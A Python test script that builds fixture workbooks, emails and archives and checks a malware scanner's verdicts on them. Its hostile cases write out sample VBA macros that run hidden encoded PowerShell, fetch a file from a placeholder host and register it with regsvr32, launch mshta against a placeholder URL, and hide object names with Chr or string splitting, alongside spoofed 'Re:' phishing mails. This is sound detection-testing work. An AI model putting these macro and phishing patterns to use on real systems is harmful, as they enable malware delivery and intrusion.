#!/usr/bin/env python3
"""Whole messages and documents, and the verdict that each deserves.

Builds inert fixtures, scans them in one run of the binary that the environment variable SEKISHO names, and compares
verdict and findings. Output is TAP. With an argument DIR the fixtures are left there.
"""
import base64, io, json, os, subprocess, sys, tempfile, zipfile

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', 'lib'))
from build_cfb import cfb
from build_vba import vba_project

CASES = []  # title, file name, bytes, verdict, findings wanted, findings unwanted


def case(title, name, data, verdict, want=(), unwanted=()):
    CASES.append((title, name, data, verdict, set(want), set(unwanted)))


def workbook(*modules):
    streams = {'_VBA_PROJECT_CUR/' + k: v for k, v in vba_project(list(modules), 1252).items()}
    streams['Workbook'] = bytes.fromhex('0908100000060500bb0dcc0700000000060000000a000000')
    return cfb(streams)


def macro(source):
    return workbook(('Module1', 'standard', source))


def zipped(*members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w', zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            archive.writestr(zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0)), data)
    return out.getvalue()


def mail(*parts, subject='test', sender='a@a.example', more=''):
    lines = ['From: ' + sender, 'To: b@b.example', 'Subject: ' + subject, 'Date: Mon, 1 Apr 2024 09:00:00 +0900',
             'Message-ID: <1@a.example>', 'MIME-Version: 1.0']
    lines += [more] if more else []
    lines += ['Content-Type: multipart/mixed; boundary=b', '', '--b', 'Content-Type: text/plain; charset=utf-8', '',
              'hello']
    for name, data in parts:
        lines += ['--b', 'Content-Type: application/octet-stream',
                  'Content-Disposition: attachment; filename="%s"' % name, 'Content-Transfer-Encoding: base64', '',
                  base64.encodebytes(data).decode().replace('\n', '\r\n').rstrip()]
    return '\r\n'.join(lines + ['--b--', '']).encode()


def honest():
    case('formatting at opening', 'a.xls', macro('''Sub Auto_Open()
    Range("A1:C9").Font.Bold = True
    Columns("A").AutoFit
    MsgBox "Welcome, please enable the filters"
End Sub'''), 'clean', ['vba.auto-run'])
    case('a backup copy at opening', 'b.xls', macro('''Private Sub Workbook_Open()
    Dim f: Set f = CreateObject("Scripting.FileSystemObject")
    f.CopyFile ThisWorkbook.FullName, Environ("TEMP") & "\\copy.xls"
    Open Environ("TEMP") & "\\log.txt" For Append As #1
    Print #1, Now & " " & Application.UserName
    Close #1
End Sub'''), 'clean', ['vba.auto-run', 'behaviour.write'])
    case('a button that starts an editor', 'c.xls', macro('''Sub Button1_Click()
    Shell "notepad.exe " & ThisWorkbook.Path & "\\readme.txt", vbNormalFocus
End Sub'''), 'clean', ['behaviour.process'])
    case('rates from a web service', 'd.xls', macro('''Sub Workbook_Open()
    Dim h As Object
    Set h = CreateObject("MSXML2.XMLHTTP.6.0")
    h.Open "GET", "https://rates.example/today", False
    h.Send
    Range("B2").Value = h.responseText
End Sub'''), 'clean', ['behaviour.download'])
    case('a long query in pieces', 'e.xls', macro('Sub Q()\n s = ' + ' & _\n '.join(
        '"SELECT name, price FROM items WHERE id = %d"' % i for i in range(20)) + '\nEnd Sub'), 'clean', [],
        ['vba.obfuscated-string'])
    case('line ends by Chr', 'f.xls', macro('Sub Q()\n s = ' + ' & '.join(
        '"line" & Chr(13) & Chr(10)' for _ in range(20)) + '\nEnd Sub'), 'clean', [], ['vba.obfuscated-string'])
    case('dangerous words in comments only', 'g.xls', macro('''Sub AutoOpen()
    ' Shell "powershell -e AAAA" was what the attacker used; URLDownloadToFile, too
    Rem CreateObject("WScript.Shell").Run "cmd /c x"
    Range("A1").Value = 1
End Sub'''), 'clean', [], ['vba.process', 'vba.powershell', 'vba.download'])
    case('a mail with a picture and a table', 'h.eml', mail(
        ('photo.png', b'\x89PNG\r\n\x1a\n' + b'0' * 90), ('list.csv', b'a,b\r\n1,2\r\n')), 'clean')
    case('a hand-typed Re:', 'i.eml', mail(subject='Re: lunch'), 'clean', ['mail.fake-reply'])
    case('a list rewrites the sender', 'j.eml', mail(
        sender='"sato@a.example via Users" <users@list.example>', more='List-Id: <users.list.example>',
        subject='Re: [users] build'), 'clean', [], ['mail.fake-reply', 'mail.display-name-address'])


def hostile():
    case('PowerShell at opening', 'k.xls', macro('''Sub AutoOpen()
    Shell "powershell -w hidden -e UwBFAEsASQA=", 0
End Sub'''), 'malicious', ['vba.auto-run', 'behaviour.interpreter', 'behaviour.at-opening'])
    case('WMI in pieces', 'l.xls', macro('''Sub Auto_Open()
    Set o = GetObject("win" & "mgm" & "ts:Win32_" & "Process")
    o.Create "cmd /c echo SEKISHO", Null, Null, p
End Sub'''), 'malicious', ['vba.split-word', 'behaviour.starts-at-opening'])
    case('fetch, write, start', 'm.xls', macro('''Private Declare PtrSafe Function URLDownloadToFile Lib "urlmon" _
 Alias "URLDownloadToFileA" (ByVal a As Long, ByVal b As String, ByVal c As String) As Long
Sub Auto_Open()
    URLDownloadToFile 0, "http://a.invalid/x", "C:\\x.ocx"
    Shell "regsvr32 /s C:\\x.ocx"
End Sub'''), 'malicious', ['behaviour.download', 'behaviour.load'])
    case('a name by Chr', 'n.xls', macro('Sub AutoOpen()\n CreateObject(' + '&'.join(
        'Chr(%d)' % ord(c) for c in 'WScript.Shell.Name') + ').Run "mshta x"\nEnd Sub'), 'malicious',
        ['vba.obfuscated-string', 'vba.computed-object'])
    case('a name in a variable', 'o.xls', macro('''Sub AutoOpen()
    n = Replace("WxxScrxxipt.Shxxell", "xx", "")
    CreateObject(n).Run Replace("exxcho", "xx", "")
End Sub'''), 'malicious', ['behaviour.at-opening'])
    case('a script in an archive of a false reply', 'p.eml', mail(
        ('scan.zip', zipped(('invoice.pdf.js', b'var a = 1;'))), subject='Re: invoice'), 'malicious',
        ['attachment.double-extension', 'attachment.script', 'mail.disguised-delivery'])
    case('macro in a document of a false reply', 'q.eml', mail(
        ('MES_2020.doc', macro('Sub AutoOpen()\n Shell "cmd /c mshta http://a.invalid/"\nEnd Sub')),
        subject='RE: 会議', sender='=?utf-8?B?' + base64.b64encode('佐藤 <sato@b.example>'.encode()).decode() +
        '?= <x@c.example>'), 'malicious', ['mail.fake-reply', 'mail.display-name-address', 'behaviour.at-opening'])
    case('a macro document called a picture', 'r.eml', mail(('photo.jpg', macro('Sub X()\nEnd Sub'))), 'suspicious',
         ['attachment.type-mismatch', 'doc.disguised'])
    case('an archive that says two names', 's.zip', zipped(('a.txt', b'text')).replace(b'a.txt', b'b.txt', 1),
         'suspicious', ['archive.name-mismatch'])


def scan(binary, where):
    paths = []
    for _, name, data, *_ in CASES:
        paths.append(os.path.join(where, name))
        with open(paths[-1], 'wb') as f:
            f.write(data)
    got = subprocess.run([binary, 'scan', '--json', *paths], stdout=subprocess.PIPE, check=False).stdout
    records = {r['input']: r for r in map(json.loads, got.decode('utf-8').splitlines())}
    return [records.get(p) for p in paths]


def complaint(record, verdict, want, unwanted):
    if record is None:
        return 'no record'
    ids = {f['id'] for f in record['findings']}
    if record['verdict'] != verdict:
        return '%s %d: %s' % (record['verdict'], record['score'], ' '.join(sorted(ids)))
    if want - ids or unwanted & ids:
        return 'lacks %s, has %s' % (sorted(want - ids), sorted(unwanted & ids))
    return None


def main():
    honest()
    hostile()
    print('1..%d' % len(CASES))
    with tempfile.TemporaryDirectory() as temporary:
        records = scan(os.environ['SEKISHO'], sys.argv[1] if len(sys.argv) > 1 else temporary)
    failed = 0
    for i, ((title, _, _, verdict, want, unwanted), record) in enumerate(zip(CASES, records)):
        wrong = complaint(record, verdict, want, unwanted)
        failed += wrong is not None
        print('%s %d - %s' % ('ok' if wrong is None else 'not ok', i + 1, title))
        if wrong is not None:
            print('# ' + wrong)
    return 1 if failed else 0


if __name__ == '__main__':
    sys.exit(main())
